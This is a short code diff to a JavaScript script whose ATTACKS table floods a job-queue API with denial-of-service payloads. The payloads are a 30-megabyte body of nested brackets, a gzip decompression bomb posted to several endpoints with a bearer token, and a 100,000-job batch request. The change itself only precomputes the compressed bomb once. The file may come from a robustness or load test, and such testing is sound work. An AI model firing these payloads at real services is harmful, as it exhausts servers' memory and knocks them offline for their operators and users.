@@ -27,6 +27,7 @@ const inLine = async (n, work) => {
   return answers;
 };
 const brackets = Buffer.alloc(30_000_000, '[');
+const packed = attack === 'bomb' ? gzipSync(brackets) : brackets;
 const paths = ['/api/v1/jobs', '/api/v1/jobs/batch', '/v1/jobs', '/tasks/x', '/v1/job', '/v1/jobs/submit', '/agent/v1/register'];
 
 const ATTACKS = {
@@ -34,7 +35,7 @@ const ATTACKS = {
     ...(await times(paths.length, (at) => send('POST', paths[at], { ...json }, brackets))),
     ...(await times(paths.length, (at) => send('POST', paths[at], { ...json, ...bearer }, brackets))),
   ],
-  bomb: () => times(28, (at) => send('POST', paths[at % paths.length], { ...json, ...bearer, 'content-encoding': 'gzip' }, gzipSync(brackets))),
+  bomb: () => times(28, (at) => send('POST', paths[at % paths.length], { ...json, ...bearer, 'content-encoding': 'gzip' }, packed)),
   batch: () => {
     const body = Buffer.from(JSON.stringify({ jobs: Array(100_000).fill({ command: 'true', tags: ['a', 'b'] }) }));
     return inLine(5, () => send('POST', '/api/v1/jobs/batch', { ...json, ...bearer }, body));
